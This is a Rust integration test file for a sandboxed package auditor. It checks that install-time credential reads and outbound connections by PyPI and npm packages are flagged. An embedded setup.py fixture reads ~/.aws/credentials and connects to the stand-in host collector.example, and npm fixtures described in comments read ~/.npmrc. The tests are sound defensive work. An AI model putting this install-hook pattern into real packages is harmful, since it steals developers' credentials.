//! The install phase, end to end: a PyPI package whose `setup.py` reads a planted secret and
//! connects to a host of its own while it is being installed, and an npm package whose
//! `postinstall` script does the same (the connection from a child process it starts). The installer (uv, or pip in a
//! venv) runs in the sandbox; the registry (PyPI, for the build's setuptools) is relayed and
//! explained; the rest is evidence against the package, in phase `install`.
//!
//! The package is a local sdist offered through find-links (`UV_FIND_LINKS`,
//! `PIP_FIND_LINKS`): PyPI has no project of that name, so the local one is what installs.
//! Its own connection goes to `collector.example` (a name under `.example`), which the
//! edge's DNS answers with a synthetic address: nothing leaves.

use glassbox_audit::{audit, AuditOptions, Quiet};
use glassbox_checks::Proofs;
use glassbox_model::{NetworkMode, Outcome, Phase};
use glassbox_plan::install::PackageSpec;
use std::path::Path;

const SETUP_PY: &str = r#"
import os, socket
from setuptools import setup
# What a hostile install script does: read a credential, call home.
try:
    open(os.path.expanduser("~/.aws/credentials")).read()
except OSError:
    pass
try:
    s = socket.create_connection(("collector.example", 443), timeout=3)
    s.sendall(b"hello")
    s.close()
except OSError:
    pass
setup(
    name="gb-install-probe",
    version="1.0.0",
    py_modules=["gb_install_probe"],
    entry_points={"console_scripts": ["gb-install-probe=gb_install_probe:main"]},
)
"#;

/// A minimal MCP stdio server: initialize, an empty tool list.
const SERVER_PY: &str = r#"
import json, sys
def main():
    for line in sys.stdin:
        msg = json.loads(line)
        if "id" not in msg:
            continue
        if msg["method"] == "initialize":
            result = {"protocolVersion": msg["params"]["protocolVersion"], "capabilities": {"tools": {}},
                      "serverInfo": {"name": "probe", "version": "1.0.0"}}
        elif msg["method"] == "tools/list":
            result = {"tools": []}
        else:
            print(json.dumps({"jsonrpc": "2.0", "id": msg["id"], "error": {"code": -32601, "message": "no"}}), flush=True)
            continue
        print(json.dumps({"jsonrpc": "2.0", "id": msg["id"], "result": result}), flush=True)
"#;

/// One state folder for the tests of this binary (they run at once, in one process, and the
/// variable is the process's), emptied when the binary starts, under cargo's target dir.
fn shared_state_dir() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("install-state");
        let _ = std::fs::remove_dir_all(&dir);
        std::env::set_var("GLASSBOX_STATE_DIR", dir);
    });
}

fn sdist(dir: &Path) {
    let src = dir.join("gb_install_probe-1.0.0");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("setup.py"), SETUP_PY).unwrap();
    std::fs::write(src.join("gb_install_probe.py"), SERVER_PY).unwrap();
    std::fs::write(
        src.join("PKG-INFO"),
        "Metadata-Version: 2.1\nName: gb-install-probe\nVersion: 1.0.0\n",
    )
    .unwrap();
    let ok = std::process::Command::new("tar")
        .args([
            "czf",
            "gb_install_probe-1.0.0.tar.gz",
            "gb_install_probe-1.0.0",
        ])
        .current_dir(dir)
        .status()
        .unwrap()
        .success();
    assert!(ok, "tar failed");
    std::fs::remove_dir_all(&src).unwrap();
}

#[test]
fn an_install_script_that_reads_a_secret_and_calls_home_is_caught_in_phase_install() {
    let tmp = std::env::temp_dir().join(format!("gb-install-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&tmp);
    let links = tmp.join("links");
    std::fs::create_dir_all(&links).unwrap();
    sdist(&links);
    // This test binary's own environment: the installer settings glassbox passes through.
    std::env::set_var("UV_FIND_LINKS", &links);
    std::env::set_var("PIP_FIND_LINKS", &links);
    shared_state_dir();

    let mut o = AuditOptions::new(Vec::new(), tmp.clone());
    o.package = PackageSpec::parse("pypi:gb-install-probe==1.0.0")
        .unwrap()
        .map(Into::into);
    o.extra_ro = vec![links.clone()];
    o.evidence_dir = Some(tmp.join("evidence"));
    o.proofs = Some(Proofs::all_proven());
    let a = audit(&o, &Quiet).expect("audit");
    let m = &a.evidence.manifest;

    let install = m.install.as_ref().expect("install record");
    assert!(!install.cached && install.failure.is_none(), "{install:?}");
    assert!(
        install
            .packages
            .iter()
            .any(|p| p.starts_with("gb_install_probe==1.0.0")
                || p.starts_with("gb-install-probe==1.0.0")),
        "{:?}",
        install.packages
    );
    let package = m.target.package.as_ref().expect("package");
    assert_eq!(
        (package.name.as_str(), package.version.as_str()),
        ("gb-install-probe", "1.0.0")
    );
    assert_eq!(m.network.runs[0].mode, NetworkMode::Install);
    assert!(m.network.runs[0].isolation_verified);
    assert!(
        a.report.tools.is_empty() && m.session.completed,
        "{:?}",
        m.session
    );

    install_was_caught(&a, ".aws/credentials");
    // The registry was really reached through the relay.
    assert!(
        a.evidence
            .flows
            .iter()
            .any(|f| f.mode == NetworkMode::Install
                && f.note
                    .as_deref()
                    .is_some_and(|n| n.starts_with("relayed to "))
                && f.bytes_in > 0),
        "no relayed flow"
    );

    // A second audit of the same version reuses the install: no install run, same folder.
    let mut o2 = o.clone();
    o2.evidence_dir = Some(tmp.join("evidence2"));
    let b = audit(&o2, &Quiet).expect("second audit");
    let again = b
        .evidence
        .manifest
        .install
        .as_ref()
        .expect("install record");
    assert!(again.cached, "{again:?}");
    assert_eq!(again.installed_by, m.run_id);
    assert_eq!(again.dir, install.dir);
    assert!(b
        .evidence
        .manifest
        .network
        .runs
        .iter()
        .all(|r| r.mode != NetworkMode::Install));
    let _ = std::fs::remove_dir_all(&tmp);
}

/// The install script's secret read and its connection are caught in phase install, against
/// the install run; the registry is relayed and explained.
fn install_was_caught(a: &glassbox_audit::Audit, secret: &str) {
    let check = |id: &str| {
        a.report
            .checks
            .iter()
            .find(|c| c.id == id)
            .unwrap_or_else(|| panic!("{id}"))
    };
    // The secret read by setup.py: flagged, in phase install.
    let cred = check("credential-probe");
    assert_eq!(cred.outcome, Outcome::Flag, "{cred:?}");
    assert!(
        cred.findings
            .iter()
            .any(|f| f.summary.contains(secret) && f.phase == Some(Phase::Install)),
        "{:?}",
        cred.findings
    );
    // Its own host is egress of the install run; the registry is not.
    let egress = check("unexplained-egress");
    let summaries: Vec<&str> = egress.findings.iter().map(|f| f.summary.as_str()).collect();
    assert!(
        summaries
            .iter()
            .any(|s| s.contains("collector.example") && s.contains("install run")),
        "{summaries:?}"
    );
    assert!(
        !summaries
            .iter()
            .any(|s| s.contains("pypi.org") || s.contains("pythonhosted")),
        "{summaries:?}"
    );
}

/// What `npm pack` makes of `tests/data/npm-postinstall` (`package/` with its files): a
/// package whose `postinstall` reads `~/.npmrc` (npm itself is told not to) and starts a child
/// `node` that connects to `collector.example`; its bin is a minimal MCP server in Node.
fn npm_tarball(dir: &Path) -> std::path::PathBuf {
    pack(dir, "npm-postinstall", "gb-npm-install-probe-1.0.0.tgz")
}

/// `tests/data/DATA` packed as `npm pack` would, into `dir/FILE`.
fn pack(dir: &Path, data: &str, file: &str) -> std::path::PathBuf {
    let pkg = dir.join("package");
    std::fs::create_dir_all(&pkg).unwrap();
    let data = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(data);
    for e in std::fs::read_dir(&data).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), pkg.join(e.file_name())).unwrap();
    }
    // One MCP server for the packages that have none of their own.
    if !pkg.join("server.js").exists() {
        std::fs::copy(
            data.join("../npm-postinstall/server.js"),
            pkg.join("server.js"),
        )
        .unwrap();
    }
    let ok = std::process::Command::new("tar")
        .args(["czf", file, "package"])
        .current_dir(dir)
        .status()
        .unwrap()
        .success();
    assert!(ok, "tar failed");
    std::fs::remove_dir_all(&pkg).unwrap();
    dir.join(file)
}

/// A failed install is an audit: a `postinstall` that reads `~/.npmrc`, then fails at a
/// download cut at the edge (puppeteer's way, and npm malware's). The audit is inconclusive
/// with the installer's reason and last lines, its install evidence went through every
/// check (the read is flagged, in phase install), and what it tried to fetch is listed.
/// `--install-env` reaches the installer alone: with the skip variable the same package
/// installs and its server runs.
#[test]
fn a_failed_install_is_an_inconclusive_audit_whose_install_is_checked() {
    let tmp = std::env::temp_dir().join(format!("gb-npm-failing-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&tmp);
    std::fs::create_dir_all(&tmp).unwrap();
    let tgz = pack(
        &tmp,
        "npm-postinstall-fails",
        "gb-npm-failing-probe-1.0.0.tgz",
    );
    shared_state_dir();
    let spec = PackageSpec::parse(&format!("npm:{}", tgz.display()))
        .unwrap()
        .unwrap();
    let mut o = AuditOptions::new(Vec::new(), tmp.clone());
    o.package = Some(spec.into());
    o.evidence_dir = Some(tmp.join("evidence"));
    o.proofs = Some(Proofs::all_proven());
    let a = audit(&o, &Quiet).expect("a failed install is an audit, not an error");
    let m = &a.evidence.manifest;
    let install = m.install.as_ref().expect("install record");
    let failure = install.failure.as_deref().expect("the failure is recorded");
    assert!(
        failure.starts_with("npm install ended with status ")
            && failure.contains("ERROR: Failed to set up the browser"),
        "the installer's reason, not its last line: {failure}"
    );
    assert!(
        install
            .output_tail
            .iter()
            .any(|l| l.contains("GB_PROBE_SKIP_DOWNLOAD")),
        "{install:?}"
    );
    assert!(
        install
            .destinations
            .iter()
            .any(|d| d == "downloads.example:443 (captured, not reached)"),
        "what it tried to fetch: {:?}",
        install.destinations
    );
    assert!(failure.contains("downloads.example:443"), "{failure}");
    assert_eq!(
        a.report.verdict,
        glassbox_model::Verdict::Inconclusive,
        "{:?}",
        a.report
    );
    let reason = a.report.inconclusive_reason.as_deref().unwrap_or_default();
    assert!(
        reason.starts_with("the install failed: npm install ended with status")
            && reason.contains("its last lines:"),
        "{reason}"
    );
    // The server never ran: no run but the install's, no session, nothing claimed of it.
    assert!(m
        .network
        .runs
        .iter()
        .all(|r| r.mode == NetworkMode::Install));
    assert!(!m.session.completed && a.evidence.transcript.is_empty());
    assert!(!m.recorder.channels.iter().any(|c| c == "mcp-transcript"));
    assert!(a.report.checks.iter().all(|c| c.outcome != Outcome::Pass));
    // Its install went through every check: the read of ~/.npmrc is flagged, in phase install.
    let cred = a
        .report
        .checks
        .iter()
        .find(|c| c.id == "credential-probe")
        .unwrap();
    assert_eq!(cred.outcome, Outcome::Flag, "{cred:?}");
    assert!(cred
        .findings
        .iter()
        .any(|f| f.summary.contains(".npmrc") && f.phase == Some(Phase::Install)));
    // The bundle is whole: the report and the manifest are written, the flows too.
    for f in [
        "report.json",
        "manifest.json",
        "network.jsonl",
        "events.jsonl",
    ] {
        assert!(tmp.join("evidence").join(f).is_file(), "{f}");
    }
    // Nothing is cached of a failed install: the next audit installs again, and with the
    // variable the installer alone gets, the install passes and the server runs.
    let mut o2 = o.clone();
    o2.evidence_dir = Some(tmp.join("evidence2"));
    o2.install_env = vec![("GB_PROBE_SKIP_DOWNLOAD".into(), "1".into())];
    let b = audit(&o2, &Quiet).expect("audit");
    let m2 = &b.evidence.manifest;
    let install2 = m2.install.as_ref().unwrap();
    assert!(
        !install2.cached && install2.failure.is_none(),
        "{install2:?}"
    );
    // Where the host has a Chromium, the browser drivers' download is skipped too.
    let mut env = vec!["GB_PROBE_SKIP_DOWNLOAD=1".to_string()];
    env.extend(
        glassbox_sandbox::browser::install_environment()
            .iter()
            .map(|(k, v)| format!("{k}={v}")),
    );
    assert_eq!(install2.env, env);
    assert!(m2.session.completed, "{:?}", m2.session);
    assert_eq!(
        m2.target.package.as_ref().unwrap().program.as_deref(),
        Some("gb-npm-failing-probe")
    );
    let _ = std::fs::remove_dir_all(&tmp);
}

#[test]
fn an_npm_postinstall_script_that_reads_a_secret_and_calls_home_is_caught_in_phase_install() {
    let tmp = std::env::temp_dir().join(format!("gb-npm-install-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&tmp);
    std::fs::create_dir_all(&tmp).unwrap();
    let tgz = npm_tarball(&tmp);
    shared_state_dir();

    let spec = PackageSpec::parse(&format!("npm:{}", tgz.display()))
        .unwrap()
        .unwrap();
    assert_eq!(spec.name, "gb-npm-install-probe");
    let version = spec.version.clone().unwrap();
    assert!(version.starts_with("1.0.0+tarball."), "{version}");
    let mut o = AuditOptions::new(Vec::new(), tmp.clone());
    o.package = Some(spec.into());
    o.evidence_dir = Some(tmp.join("evidence"));
    o.proofs = Some(Proofs::all_proven());
    let a = audit(&o, &Quiet).expect("audit");
    let m = &a.evidence.manifest;

    let install = m.install.as_ref().expect("install record");
    assert!(!install.cached && install.failure.is_none(), "{install:?}");
    assert_eq!(
        install.exit,
        Some(glassbox_model::ServerExit::Exited { code: 0 }),
        "{install:?}"
    );
    assert!(
        install
            .packages
            .iter()
            .any(|p| p == "gb-npm-install-probe@1.0.0"),
        "{:?}",
        install.packages
    );
    let package = m.target.package.as_ref().expect("package");
    assert_eq!(
        (package.name.as_str(), package.version.as_str()),
        ("gb-npm-install-probe", version.as_str())
    );
    assert!(m.session.completed, "{:?}", m.session);
    // The script ran as npm's child, in the sandbox, under the recorder.
    assert!(
        a.evidence.events.iter().any(|e| e.phase == Phase::Install
            && serde_json::to_string(&e.kind)
                .unwrap()
                .contains("postinstall.js")),
        "the postinstall script's process is not in the evidence"
    );
    install_was_caught(&a, ".npmrc");
    let _ = std::fs::remove_dir_all(&tmp);
}

/// A package's own homepage explains its egress: a vendor-API client (`tests/data/
/// npm-vendor-client`, homepage `https://docs.vendor.example/mcp`) whose tool calls
/// `api.vendor.example`, `metrics.collector.example` and `npm.vendor.test`. The vendor's API
/// is a note that names the package's homepage domain, in both runs; the collector is
/// flagged, and so is the host named like the package (its name is its author's choice).
#[test]
fn a_packages_homepage_domain_explains_its_api_and_nothing_else() {
    let tmp = std::env::temp_dir().join(format!("gb-npm-vendor-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&tmp);
    std::fs::create_dir_all(&tmp).unwrap();
    let tgz = pack(&tmp, "npm-vendor-client", "gb-npm-vendor-client-1.0.0.tgz");
    shared_state_dir();
    let spec = PackageSpec::parse(&format!("npm:{}", tgz.display()))
        .unwrap()
        .unwrap();
    let mut o = AuditOptions::new(Vec::new(), tmp.clone());
    o.package = Some(spec.into());
    o.evidence_dir = Some(tmp.join("evidence"));
    o.proofs = Some(Proofs::all_proven());
    let a = audit(&o, &Quiet).expect("audit");
    let m = &a.evidence.manifest;
    assert!(m.session.completed, "{:?}", m.session);
    // Its metadata, as published; not the words of its name (`gb-npm-vendor-client`), which
    // its author chose.
    assert_eq!(
        m.network
            .names
            .iter()
            .map(|e| (e.by.as_str(), e.field.as_str(), e.host.as_str()))
            .collect::<Vec<_>>(),
        [("npm", "homepage", "docs.vendor.example")]
    );
    assert_eq!(
        glassbox_checks::explain::explained(m)
            .iter()
            .map(|e| (e.host.as_str(), e.why.as_str()))
            .collect::<Vec<_>>(),
        [(
            "vendor.example",
            "the package's homepage domain, vendor.example (npm `homepage`)"
        )]
    );
    let check = |id: &str| {
        a.report
            .checks
            .iter()
            .find(|c| c.id == id)
            .unwrap_or_else(|| panic!("{id}"))
    };
    for id in ["unexplained-egress", "denied-network-attempts"] {
        let c = check(id);
        let flagged: Vec<&str> = c.findings.iter().map(|f| f.summary.as_str()).collect();
        assert!(
            !flagged.is_empty() && flagged.iter().all(|s| !s.contains("api.vendor.example")),
            "{id}: {flagged:?}"
        );
        // Nothing in the package names the collector; one named like the package is not
        // explained by that.
        for host in ["metrics.collector.example", "npm.vendor.test"] {
            assert!(
                flagged.iter().any(|s| s.contains(host)),
                "{id}: {host}: {flagged:?}"
            );
        }
        let notes: Vec<&str> = c.notes.iter().map(|f| f.summary.as_str()).collect();
        assert!(
            notes.iter().any(|s| s.contains("api.vendor.example")
                && s.contains("the package's homepage domain, vendor.example")),
            "{id}: {notes:?}"
        );
    }
    let _ = std::fs::remove_dir_all(&tmp);
}

/// A package that starts only as its README configures it (a token in its environment, a
/// project folder after `--workspace`; issue 34): given bare, it runs as the README's snippet
/// for it says, the token a canary and the placeholder folder its own, the snippet of another
/// package left alone, and the manifest says which snippet was used. With `--no-readme-config`
/// it stops before `initialize`, and the reason quotes the line that says why, not its stack.
#[test]
fn a_bare_package_runs_as_its_readme_configures_it() {
    let tmp = std::env::temp_dir().join(format!("gb-npm-readme-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&tmp);
    std::fs::create_dir_all(&tmp).unwrap();
    let tgz = pack(
        &tmp,
        "npm-readme-configured",
        "gb-npm-readme-configured-1.0.0.tgz",
    );
    shared_state_dir();
    let spec = PackageSpec::parse(&format!("npm:{}", tgz.display()))
        .unwrap()
        .unwrap();
    let run = |readme: bool, dir: &str| {
        let mut o = AuditOptions::new(Vec::new(), tmp.clone());
        o.package = Some(spec.clone().into());
        o.evidence_dir = Some(tmp.join(dir));
        o.proofs = Some(Proofs::all_proven());
        o.network = glassbox_audit::NetworkChoice::Capture;
        o.readme_config = readme;
        audit(&o, &Quiet).expect("audit")
    };
    let a = run(true, "with");
    let m = &a.evidence.manifest;
    assert!(m.session.completed, "{:?}", m.session);
    let used = m
        .target
        .package
        .as_ref()
        .and_then(|p| p.readme_config.clone())
        .expect("the README's configuration");
    assert!(
        used.source
            .ends_with("gb-npm-readme-configured/README.md, block 2"),
        "{used:?}"
    );
    assert_eq!(used.entry, "widgets");
    assert_eq!(used.env, ["WIDGET_API_TOKEN (a canary)", "WIDGET_MODE"]);
    assert_eq!(used.args[0], "--workspace");
    assert_ne!(used.args[1], "/path/to/your/project");
    assert_eq!(used.filled.len(), 1, "{used:?}");
    // The token is a planted secret of its own, as a configuration's secret is.
    assert!(
        m.sandbox
            .honeytokens
            .iter()
            .any(|h| h.path == "env:WIDGET_API_TOKEN"),
        "{:?}",
        m.sandbox.honeytokens
    );
    // Without it, the server says what it lacks, one thing at a time, and is started again
    // with each: the token (a canary), then the option (its own folder). Each start that
    // failed is kept: its run with its session, its files under their own names.
    let b = run(false, "without");
    let m = &b.evidence.manifest;
    assert!(m.target.package.as_ref().unwrap().readme_config.is_none());
    assert!(m.session.completed, "{:?} {:?}", m.session, m.target.starts);
    let starts: Vec<(&str, &str, &str)> = (m.target.starts.iter())
        .map(|s| (s.said.as_str(), s.lacked.as_str(), s.supplied.as_str()))
        .collect();
    assert_eq!(starts.len(), 2, "{starts:?}");
    assert!(
        starts[0]
            .0
            .starts_with("Error: WIDGET_API_TOKEN is required"),
        "{starts:?}"
    );
    assert_eq!(starts[0].1, "the environment variable WIDGET_API_TOKEN");
    assert_eq!(starts[0].2, "WIDGET_API_TOKEN, a canary");
    assert_eq!(starts[1].1, "the option --workspace");
    assert!(starts[1].2.starts_with("--workspace /"), "{starts:?}");
    assert_eq!(
        m.target.starts[0].files,
        ["transcript-start-1.jsonl", "stderr-start-1.log"]
    );
    let dir = &b.evidence_dir;
    assert!(std::fs::read_to_string(dir.join("stderr-start-1.log"))
        .unwrap()
        .contains("WIDGET_API_TOKEN is required"));
    let failed: Vec<_> = (m.network.runs.iter())
        .filter(|r| r.session.as_ref().is_some_and(|s| !s.completed))
        .collect();
    assert_eq!(failed.len(), 2, "{:?}", m.network.runs);
    // Three starts of the main run say what it observes, and does not, once.
    for list in [&m.recorder.channels, &m.recorder.unobserved] {
        let mut seen = std::collections::HashSet::new();
        assert!(list.iter().all(|c| seen.insert(c)), "{list:?}");
    }
    assert!(m
        .sandbox
        .honeytokens
        .iter()
        .any(|h| h.path == "env:WIDGET_API_TOKEN"));
    let _ = std::fs::remove_dir_all(&tmp);
}
